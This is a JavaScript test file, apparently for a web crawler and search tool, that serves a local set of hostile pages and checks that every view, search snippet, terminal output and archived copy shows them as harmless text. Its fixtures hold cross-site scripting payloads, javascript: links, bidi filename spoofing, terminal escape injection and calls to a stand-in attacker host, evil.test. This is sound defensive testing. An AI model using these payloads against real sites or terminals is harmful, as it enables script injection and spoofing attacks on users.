// A web that attacks whoever reads it: shown harmless on every view, in search, in copies, on the terminal.
import { createServer } from 'node:http';
import { check, equal, folder, holds, page, run, serve } from './drive.mjs';

const SCRIPT = '<script>alert("script")</script>';
const IMAGE = '<img src=x onerror=alert("image")>';
const BIDI = '\u202egnp.exe\u2066';
const ESCAPE = '\u001b[31mred\u001b]0;owned\u0007';
const escaped = text => text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/"/g, '&quot;');

const attack = (title, body) => `<!doctype html><html lang="en"><head><title>${escaped(title)}</title></head><body onload="alert('load')">${body}
<script>alert('ran'); parent.document.title = 'taken'; fetch('http://evil.test/')</script><svg onload="alert('svg')"></svg>
<a href="/attribute%22%20onmouseover=%22alert(1)">" onclick="alert('anchor') ${escaped(SCRIPT)} ${BIDI}</a> <a href="javascript:alert('link')">javascript</a>
<a href="/%E2%80%AEcod.exe?q=<svg/onload=alert(1)>&amp;x='">${escaped(IMAGE)}</a> <a href="/escape">${ESCAPE}</a> <a href="/huge">huge ${BIDI}</a> <a href="/gone${encodeURIComponent(SCRIPT)}">gone</a>
<form action="http://evil.test/"><input name=a autofocus onfocus="alert('focus')"></form><iframe src="javascript:alert('frame')"></iframe><meta http-equiv="refresh" content="0;url=javascript:alert('refresh')">
<img src="http://evil.test/pixel"> poisonous toadstool ${escaped(SCRIPT)} ${BIDI} ${ESCAPE} words</body></html>`;

const pages = {
  '/': attack(`${SCRIPT} toadstool start`, ''),
  '/attribute%22%20onmouseover=%22alert(1)': attack(`"><svg onload=alert(9)> ${IMAGE} toadstool`, ''),
  '/escape': attack(`toadstool ${ESCAPE} ${BIDI}`, ''),
  '/huge': attack('toadstool ' + 'A<b>'.repeat(1_500_000), ''),
};

export async function hostile() {
  const web = createServer((request, response) => {
    const body = pages[request.url] ?? (request.url.startsWith('/%E2') ? attack(`${BIDI} toadstool`, '') : null);
    response.writeHead(body === null ? 404 : 200, { 'Content-Type': 'text/html; charset=utf-8' });
    response.end(body ?? `${SCRIPT} not found`);
  });
  await new Promise(ready => web.listen(0, '127.0.0.1', ready));
  const seed = `http://127.0.0.1:${web.address().port}/`;
  const dir = folder();
  const crawled = await run('crawl', seed, '--dir', dir, '--delay', '0', '--index', '--no-dashboard', '--quiet');
  web.close();
  const harmless = (text, where) => holds(!/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/.test(text), `${where}: ${JSON.stringify(text.match(/.{0,20}[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069].{0,20}/)?.[0])}`);
  await check('the terminal shows hostile pages harmless', async () => {
    equal(crawled.code, 0, crawled.err);
    for (const line of [['top', dir], ['top', dir, '--sites'], ['why', dir, seed + 'escape'], ['search', dir, 'toadstool', '--explain']]) {
      const said = await run(...line);
      equal(said.code, 0, said.err);
      harmless(said.out + said.err, line[0]);
    }
    harmless(crawled.out + crawled.err, 'crawl');
    const found = await run('search', dir, 'toadstool', '--json');
    equal(found.out.trim().split('\n').length, 5, 'pages found');
  });
  const served = await serve('serve', dir);
  const base = served.address.replace(/\/$/, '');
  const opened = await page(base);
  const urls = (await (await fetch(base + '/api/pages?limit=50')).json()).pages.map(p => p.url);
  await check('every view shows hostile pages as text', async () => {
    for (const path of ['/', '/#/pages', '/#/sites', '/#/log', '/#/rules', ...urls.map(u => '/#/page?url=' + encodeURIComponent(u)), '/search?q=toadstool', '/search?q=' + encodeURIComponent(SCRIPT + IMAGE)]) {
      await opened.goto('about:blank');
      await opened.goto(base + path);
      await opened.waitForSelector('main h1', { state: 'attached' });
      await opened.waitForTimeout(150);
      equal(await opened.evaluate(() => document.querySelectorAll('main script, main [onerror], main [onload], main [onclick], main a[href^="javascript"]').length), 0, `markup on ${path}`);
      harmless(await opened.evaluate(() => document.body.innerText), path);
    }
  });
  await check('snippets and explanations show hostile text as text', async () => {
    await opened.goto(base + '/search?q=poisonous+toadstool');
    await opened.waitForSelector('.result');
    equal(await opened.locator('.result').count(), 5, 'results');
    for (const why of await opened.getByRole('button', { name: 'why?' }).all()) {
      await why.click();
      await opened.waitForSelector('#why[open]');
      harmless(await opened.evaluate(() => document.getElementById('whytree').innerText), 'the explanation');
      await opened.keyboard.press('Escape');
    }
  });
  await check('archived copies run nothing and reach nobody', async () => {
    for (const url of urls.slice(0, 6)) {
      await opened.goto(base + '/search/copy?url=' + encodeURIComponent(url));
      await opened.waitForTimeout(300);
      equal(await opened.title(), 'Archived copy - Nephila', 'the title');
      const raw = await fetch(base + '/search/raw?url=' + encodeURIComponent(url));
      if (raw.ok) holds(/(^|; )sandbox(;|$)/.test(raw.headers.get('content-security-policy')), 'no sandbox');
    }
    // Opened by itself, outside the frame, the copy is still in its sandbox.
    await opened.goto(base + '/search/raw?url=' + encodeURIComponent(seed));
    equal(await opened.evaluate(() => self.origin), 'null', 'the origin of a copy');
  });
  await opened.context().close();
  served.stop();
}
